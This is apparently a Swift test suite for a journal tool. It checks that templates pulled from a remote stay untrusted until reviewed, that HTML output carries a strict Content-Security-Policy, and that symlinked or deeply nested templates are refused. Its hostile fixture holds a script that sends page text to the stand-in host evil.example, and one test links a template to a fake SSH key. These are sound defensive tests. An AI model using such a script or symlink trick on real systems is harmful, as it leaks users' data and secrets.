import Foundation
import Testing

/// Templates, like hooks, never come from content: one that arrives by pull (or changes in one)
/// is not used until the owner trusts it, after seeing its diff; every HTML document starts its
/// head with the journal's Content-Security-Policy; a template nested too deeply is refused with
/// its file and line instead of crashing the parser.
@Suite("Templates from a remote, trust, the CSP and the nesting bound")
struct TemplateTrustTests {
    static let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'\">"

    /// A mentor's report template: no <head> and no policy of its own, a script that would send
    /// the report away and retitle the page.
    static let hostile = """
        <!DOCTYPE html>
        <html><body>
        <h1>Report of {{header.owner}} by the mentor's template</h1>
        <script>document.title='PWNED';fetch("https://evil.example/?d="+encodeURIComponent(document.body.innerText))</script>
        </body></html>
        """

    /// The owner with a journal pushed to a bare origin, and a plain clone of it on the mentor's side.
    static func ownerAndMentor() throws -> (owner: Sandbox, mentorClone: URL) {
        let owner = try Sandbox()
        try owner.makeJournal()
        try owner.record("win", "Shipped the search revamp", "--criteria", "execution", "--date", "2026-11-10")
        let bare = try owner.makeBareRepository()
        try expectSuccess(owner.journal("remote", "add", "origin", bare.path))
        try expectSuccess(owner.journal("push"))
        return (owner, try owner.plainClone(bare, into: "mentor"))
    }

    func trustRecord(_ owner: Sandbox, _ name: String) -> Data? {
        FileManager.default.contents(atPath: owner.journal.appendingPathComponent(".git/journal/trusted-templates/\(name)").path)
    }

    @Test("a template that arrives by pull is not used until trusted; the pull says it arrived; trust shows the diff first",
          .timeLimit(.minutes(2)))
    func pulledTemplateWaitsForTrust() throws {
        let (owner, mentor) = try Self.ownerAndMentor()
        try owner.pushContent(from: mentor, ["templates/report.html.mustache": Self.hostile], message: "a nicer report")
        let pulled = try owner.journal("pull")
        #expect(pulled.status == 0, "\(pulled)")
        #expect(pulled.stdout.contains("Template arrived from origin: templates/report.html.mustache"), "\(pulled)")
        #expect(pulled.stdout.contains("journal templates trust"), "\(pulled)")
        try owner.expectHealthy(after: "pulling a template")

        // Not trusted: the built-in template, with a warning naming the way to trust it.
        let report = try owner.journal("report", "--format", "html", "-o", "-")
        #expect(report.status == 0, "\(report)")
        #expect(report.stderr.contains("templates/report.html.mustache is not used"), "\(report)")
        #expect(report.stderr.contains("journal templates trust"), "\(report)")
        #expect(!report.stdout.contains("evil.example") && !report.stdout.contains("mentor's template"))
        #expect(report.stdout.contains("<title>Evidence report"))
        // A document the template is not for says nothing about it.
        #expect(!(try expectSuccess(owner.journal("report", "-o", "-")).stderr.contains("templates/")))

        // Without a terminal and without --yes: the diff is shown, nothing is recorded.
        let shown = try owner.journal("templates", "trust")
        #expect(shown.status == 2, "\(shown)")
        #expect(shown.stdout.contains("templates/report.html.mustache is new:"), "\(shown)")
        #expect(shown.stdout.contains("+<script>document.title='PWNED'"), "\(shown)")
        #expect(shown.stderr.contains("--yes"), "\(shown)")
        #expect(trustRecord(owner, "report.html.mustache") == nil)
        #expect(try owner.journal("report", "--format", "html", "-o", "-").stderr.contains("is not used"))

        // Trusted: used from now on, and still under the journal's policy, first in <head>.
        let trusted = try owner.journal("templates", "trust", "--yes")
        #expect(trusted.status == 0, "\(trusted)")
        #expect(trusted.stdout.contains("Trusted templates/report.html.mustache"), "\(trusted)")
        try expectSuccess(owner.journal("report", "--format", "html", "-o", "report.html"))
        let html = try String(contentsOf: owner.root.appendingPathComponent("report.html"), encoding: .utf8)
        #expect(html.contains("mentor's template"), "the trusted template is used")
        #expect(html.hasPrefix("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n" + Self.policy + "\n"), "\(html.prefix(300))")
        #expect(html.components(separatedBy: "<head").count == 2, "one head: \(html)")
        #expect(try expectSuccess(owner.journal("templates", "trust")).stdout.contains("nothing to review"))
        try owner.expectHealthy(after: "trusting a template")
        if let chromium = ReportCommandTests.chromium {
            let flags = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir=\(owner.root.path)/chromium"]
            let page = owner.root.appendingPathComponent("report.html").path
            let dom = try owner.run(chromium, flags + ["--virtual-time-budget=2000", "--dump-dom", "file://\(page)"], stdin: nil, environment: [:])
            #expect(dom.status == 0, "\(dom.stderr)")
            #expect(dom.stdout.contains("mentor's template"), "\(dom.stdout)")
            #expect(!dom.stdout.contains("<title>PWNED"), "the template's script ran: \(dom.stdout)")
        }

        // A change in the next pull is not trusted: the diff against what was trusted.
        try owner.pushContent(from: mentor, ["templates/report.html.mustache": Self.hostile.replacingOccurrences(of: "PWNED", with: "OWNED")],
                              message: "tweak")
        let again = try owner.journal("pull")
        #expect(again.stdout.contains("Template arrived from origin: templates/report.html.mustache"), "\(again)")
        let changed = try owner.journal("report", "--format", "html", "-o", "-")
        #expect(changed.stderr.contains("changed since you trusted it") && !changed.stdout.contains("OWNED"), "\(changed)")
        let diff = try owner.journal("templates", "trust")
        #expect(diff.stdout.contains("-<script>document.title='PWNED'") && diff.stdout.contains("+<script>document.title='OWNED'"), "\(diff)")
        // A pull that brings no template says nothing of templates.
        try owner.pushContent(from: mentor, ["entries/2026/11/2026-11-20-from-the-mentor-a2b3c4d5e6.md":
                                                Sandbox.entryText(id: "a2b3c4d5e6", kind: "note", date: "2026-11-20", title: "From the mentor")],
                              message: "note")
        #expect(!(try expectSuccess(owner.journal("pull")).stdout.contains("Template")))
    }

    @Test("templates written by --template-dump are trusted; an edit is not until trusted; a clone trusts nothing")
    func dumpedTemplatesAreTrusted() throws {
        let (owner, _) = try Self.ownerAndMentor()
        try expectSuccess(owner.journal("report", "--template-dump"))
        let report = try expectSuccess(owner.journal("report", "-o", "-"))
        #expect(report.stderr.isEmpty, "\(report)")
        #expect(try expectSuccess(owner.journal("templates", "trust")).stdout.contains("nothing to review"))
        let path = owner.journal.appendingPathComponent("templates/report.md.mustache")
        try Data("{{% CONTENT_TYPE: TEXT}}\nOur packet: {{header.owner}}\n".utf8).write(to: path)
        let untrusted = try owner.journal("report", "-o", "-")
        #expect(untrusted.stdout.hasPrefix("# Evidence report") && untrusted.stderr.contains("changed since you trusted it"), "\(untrusted)")
        try expectSuccess(owner.journal("templates", "trust", "report.md.mustache", "--yes"))
        #expect(try owner.journal("report", "-o", "-").stdout == "Our packet: Alex Doe\n")
        // The diff cannot hide a line with terminal escapes or bidirectional overrides.
        try Data("{{% CONTENT_TYPE: TEXT}}\nOur packet\u{1B}[2K\r\u{202E}hidden\n".utf8).write(to: path)
        let shown = try owner.journal("templates", "trust")
        #expect(shown.status == 2 && !shown.stdout.contains("\u{1B}") && !shown.stdout.contains("\u{202E}") && !shown.stdout.contains("\r"), "\(shown)")
        #expect(shown.stdout.contains("+Our packet\\u{1B}[2K\\u{D}\\u{202E}hidden"), "\(shown)")
        try Data("{{% CONTENT_TYPE: TEXT}}\nOur packet: {{header.owner}}\n".utf8).write(to: path)
        #expect(try owner.journal("templates", "trust", "report.txt").status == 2)

        try expectSuccess(owner.journal("push"))
        let mentor = try Sandbox.person("Sam Mentor", "sam@example.com")
        try expectSuccess(mentor.journal("clone", owner.root.appendingPathComponent("shared.git").path, mentor.journal.path))
        let cloned = try mentor.journal("report", "--format", "html", "-o", "-")
        #expect(cloned.status == 0 && cloned.stderr.contains("templates/report.html.mustache is not used"), "\(cloned)")
    }

    @Test("a template that is a symbolic link is never read, nor trusted")
    func symlinkTemplate() throws {
        let sandbox = try Sandbox()
        try sandbox.makeJournal()
        let secret = try sandbox.writeScratch("home/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY----- quokka\n")
        try FileManager.default.createDirectory(at: sandbox.journal.appendingPathComponent("templates"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: sandbox.journal.appendingPathComponent("templates/report.md.mustache").path,
                                                   withDestinationPath: secret)
        let report = try sandbox.journal("report", "-o", "-")
        #expect(report.status == 0 && report.stdout.hasPrefix("# Evidence report") && report.stderr.contains("symbolic link"), "\(report)")
        let trust = try sandbox.journal("templates", "trust", "--yes")
        #expect(trust.status == 2 && trust.stderr.contains("symbolic link"), "\(trust)")
        #expect(!trust.stdout.contains("quokka") && trustRecord(sandbox, "report.md.mustache") == nil)
    }

    @Test("a template of 3,000 nested sections is refused with its file and line, under a deadline and a memory limit",
          .timeLimit(.minutes(1)))
    func deepNesting() throws {
        let sandbox = try Sandbox()
        try sandbox.makeJournal()
        let name = "report.md.mustache"
        // Line 1 is the pragma, line n + 1 opens section n: the 65th opens on line 66.
        let deep = "{{% CONTENT_TYPE: MARKDOWN}}\n" + String(repeating: "{{#header}}\n", count: 3_000) + "x\n"
            + String(repeating: "{{/header}}\n", count: 3_000)
        try sandbox.writeScratch("journal/templates/" + name, deep)
        let message = "templates/\(name):66: sections are nested more than 64 deep"

        // Trusting it is refused, and nothing is recorded.
        let trust = try sandbox.journal("templates", "trust", "--yes")
        #expect(trust.status == 2, "\(trust)")
        #expect(trust.stderr.contains(message), "\(trust)")
        #expect(trustRecord(sandbox, name) == nil)

        // Trusted by an earlier record (or any other way): the report refuses it, fast, small.
        try sandbox.writeScratch("journal/.git/journal/trusted-templates/" + name, deep)
        let bounded = #"ulimit -v 2000000 && exec timeout -s KILL 15 "$J" report -o -"#
        let report = try sandbox.run("/bin/bash", ["-c", bounded], stdin: nil,
                                     environment: sandbox.scriptEnvironment.merging(["SWIFT_BACKTRACE": "enable=no"]) { $1 })
        #expect(report.status == 2, "\(report)")
        #expect(report.stderr.contains(message), "\(report)")
        #expect(report.stdout.isEmpty)
    }
}
